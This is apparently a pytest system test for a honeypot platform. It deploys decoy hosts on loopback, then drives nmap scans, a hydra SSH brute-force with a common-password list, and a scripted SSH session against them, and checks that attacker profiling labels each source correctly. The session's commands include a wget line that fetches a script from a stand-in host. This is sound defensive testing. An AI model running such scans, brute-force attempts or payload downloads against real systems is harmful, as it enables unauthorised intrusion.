"""System test: real tools against real deckies (local backend on 127.88.x.y), events stored by
a real receiver, then correlated and profiled.

``nmap -sS -sV`` sweeps the fleet from 127.0.0.6, hydra (Debian package) tries a small wordlist
against one decky's ssh from 127.0.0.1, and an operator logs in with OpenSSH from 127.0.0.7 and
types a few commands at human speed. The profiles must say scanner, brute-forcer and
interactive operator with the matching techniques, and the operator must rank first.
"""

from __future__ import annotations

import asyncio
import os
import shutil
import subprocess
from collections.abc import AsyncIterator
from pathlib import Path

import pytest

from decnet.collector import RepositorySink
from decnet.config import Settings
from decnet.db import get_repository
from decnet.db.repository import SQLModelRepository
from decnet.engine.deployer import FleetEngine
from decnet.events.receiver import EventReceiver
from decnet.fleet.planner import plan_fleet
from decnet.intel import Correlator, Profiler

SCANNER, BRUTE, OPERATOR = "127.0.0.6", "127.0.0.1", "127.0.0.7"
PROBE = "127.0.0.9"  # the test's own readiness checks
PASSWORD = "Sup3r-S3cret-77"
COMMANDS = ["uname -a", "id", "ls -la /tmp", "wget http://192.0.2.10/x.sh", "exit"]

pytestmark = [
    pytest.mark.skipif(os.geteuid() != 0, reason="nmap -sS needs raw sockets (root)"),
    pytest.mark.timeout(300),
]


@pytest.fixture
async def stack(tmp_path: Path) -> AsyncIterator[tuple[Settings, SQLModelRepository]]:
    """A repository fed by a real receiver on the deckies' ingest socket."""
    settings = Settings(
        data_dir=tmp_path / "data",
        ingest_socket=tmp_path / "run" / "ingest.sock",
        log_target=f"file:{tmp_path / 'decnet.log'}",
    )
    repo = get_repository(settings)
    await repo.initialize()
    receiver = EventReceiver(RepositorySink(repo), flush_interval=0.02)
    await receiver.start_unix(settings.ingest_socket)
    try:
        yield settings, repo
    finally:
        await receiver.stop()
        await repo.close()


async def _run(*command: str, stdin: bytes | None = None, timeout: float = 120) -> tuple[int, str]:
    proc = await asyncio.create_subprocess_exec(
        *command,
        stdin=subprocess.PIPE if stdin is not None else subprocess.DEVNULL,
        stdout=subprocess.PIPE,
        stderr=subprocess.STDOUT,
    )
    out, _ = await asyncio.wait_for(proc.communicate(stdin), timeout)
    return proc.returncode or 0, out.decode(errors="replace")


async def _until_listening(ip: str, port: int, timeout: float = 30) -> None:
    loop = asyncio.get_running_loop()
    deadline = loop.time() + timeout
    while True:
        try:
            _, writer = await asyncio.open_connection(ip, port, local_addr=(PROBE, 0))
            writer.close()
            return
        except OSError:
            assert loop.time() < deadline, f"{ip}:{port} never listened"
            await asyncio.sleep(0.2)


async def _interactive(ip: str) -> None:
    """An OpenSSH login with a terminal, one command every 2.5 s (a person typing)."""
    proc = await asyncio.create_subprocess_exec(
        "sshpass", "-p", PASSWORD, "ssh", "-tt", "-b", OPERATOR,
        "-o", "StrictHostKeyChecking=no", "-o", "UserKnownHostsFile=/dev/null",
        "-o", "PreferredAuthentications=password", "-o", "PubkeyAuthentication=no",
        f"root@{ip}",
        stdin=subprocess.PIPE, stdout=subprocess.DEVNULL, stderr=subprocess.DEVNULL,
    )  # fmt: skip
    assert proc.stdin is not None
    await asyncio.sleep(3)  # login
    for command in COMMANDS:
        proc.stdin.write(command.encode() + b"\n")
        await proc.stdin.drain()
        await asyncio.sleep(2.5)
    await asyncio.wait_for(proc.wait(), 20)


async def _count(repo: SQLModelRepository, src_ip: str, event_type: str) -> int:
    return sum(
        1
        for s in await repo.events_after(0, 100_000)
        if s.event.src_ip == src_ip and s.event.event_type == event_type
    )


async def test_real_tools_give_scanner_brute_forcer_and_operator(
    stack: tuple[Settings, SQLModelRepository], tmp_path: Path
) -> None:
    for tool in ("nmap", "hydra", "ssh", "sshpass"):
        assert shutil.which(tool), f"{tool} is needed (scripts/ensure-test-deps.sh installs it)"
    settings, repo = stack
    fleet = plan_fleet(
        deckies=3,
        subnet="127.88.0.0/24",
        ip_start="127.88.0.10",
        services="ssh,http",
        distros="debian",
        backend="local",
        seed="5a" * 32,
        name_prefix="intel",
    )
    target, shell = fleet.deckies[1], fleet.deckies[2]
    shell.service_config = {"ssh": {"users": f"root:{PASSWORD}"}}
    engine = FleetEngine(settings, "local")
    try:
        statuses = await asyncio.to_thread(engine.deploy, fleet)
        assert [s.state for s in statuses] == ["running"] * 3
        for spec in fleet.deckies:
            await _until_listening(spec.ip, 22)
            await _until_listening(spec.ip, 80)

        code, out = await _run(
            "nmap", "-sS", "-sV", "-Pn", "-n", "-e", "lo", "-S", SCANNER, "-p", "22,80", "--max-retries", "1",
            *(spec.ip for spec in fleet.deckies),
        )  # fmt: skip
        assert code == 0, out
        words = tmp_path / "words.txt"
        words.write_text(
            "\n".join(["123456", "password", "root", "toor", "admin", "letmein", "qwerty", "dragon"])
        )
        code, out = await _run(
            "hydra", "-l", "root", "-P", str(words), "-t", "4", "-I", f"ssh://{target.ip}", timeout=180
        )
        assert code == 0, out
        await _interactive(shell.ip)

        async def settled() -> bool:
            return await _count(repo, OPERATOR, "disconnect") >= 1 and await _count(repo, BRUTE, "auth") >= 8

        for _ in range(100):
            if await settled():
                break
            await asyncio.sleep(0.2)
        assert await settled(), "the deckies' events did not arrive"
    finally:
        await asyncio.to_thread(engine.teardown)

    await Correlator(repo).run_until_idle()
    await Profiler(repo).run_until_idle()
    attackers = {a.ip: a for a in await repo.list_attackers(limit=100)}
    profiles = {ip: a.profile or {} for ip, a in attackers.items()}

    def ids(ip: str) -> set[str]:
        return {t["id"] for t in profiles[ip]["techniques"]}

    assert profiles[SCANNER]["behaviour"] == "scanner", profiles[SCANNER]["classes"]
    assert "T1046" in ids(SCANNER) and "nmap" in {t["name"] for t in profiles[SCANNER]["tools"]}
    assert profiles[BRUTE]["behaviour"] == "brute_forcer", profiles[BRUTE]["classes"]
    assert {"T1110", "T1110.001"} <= ids(BRUTE) and "T1046" not in ids(BRUTE)
    assert "hydra" in {t["name"] for t in profiles[BRUTE]["tools"]}
    assert profiles[OPERATOR]["behaviour"] == "interactive_operator", profiles[OPERATOR]
    assert {"T1078", "T1059", "T1082", "T1033", "T1083", "T1105"} <= ids(OPERATOR)
    assert "openssh" in {t["name"] for t in profiles[OPERATOR]["tools"]}
    ranked = sorted(attackers.values(), key=lambda a: -a.score)
    assert ranked[0].ip == OPERATOR, [(a.ip, a.score) for a in ranked]
    assert (
        attackers[OPERATOR].score > attackers[BRUTE].score
        and attackers[OPERATOR].score > attackers[SCANNER].score
    )
